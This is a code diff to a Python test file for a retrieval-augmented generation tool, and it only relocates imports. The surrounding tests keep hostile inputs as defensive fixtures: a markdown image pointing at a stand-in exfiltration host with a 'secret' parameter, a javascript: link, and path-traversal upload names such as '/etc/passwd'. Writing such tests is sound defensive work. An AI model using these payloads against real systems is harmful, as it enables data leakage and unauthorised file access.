@@ -18,7 +18,8 @@ import pdfs
 from conftest import SAMPLE_MD
 from rag.fakes import FakeEmbedder, FakeGenerator
 from rag.errors import CorpusError, LoaderError, QueryError
-from rag.index import CURRENT, build_index, load_index, read_manifest, scan_sources
+from rag.corpus import scan_sources
+from rag.index import CURRENT, build_index, load_index, read_manifest
 from rag.loaders import MAX_FILE_BYTES, decode_text, load_file
 
 PHRASE = "深度学习中的批归一化可以加快收敛速度。"
@@ -252,7 +253,7 @@ def test_15_html_scripts_styles_and_hidden_text_are_stripped(tmp_path):
 
 
 def test_18_markdown_images_and_links_stay_inert(tmp_path):
-    from rag.ui import esc, render_answer_text
+    from rag.ui.render import esc, render_answer_text
 
     md = "1. 外链\n![x](http://evil.example/?q=secret) 正文内容在这里，[点我](javascript:alert(1)) 结束。\n"
     doc = load_file(write(tmp_path, "links.md", md))
@@ -266,7 +267,7 @@ def test_18_markdown_images_and_links_stay_inert(tmp_path):
 @pytest.mark.parametrize("name", ["../../x.txt", "/etc/passwd", "..\\x.txt", "C:\\x.txt", "..", ".", ".bashrc.md",
                                   "a\x00.md", "x.exe"])
 def test_19_upload_names_are_basename_only_or_refused(name):
-    from rag.ui import safe_document_name
+    from rag.corpus import safe_document_name
 
     with pytest.raises(CorpusError):
         safe_document_name(name)
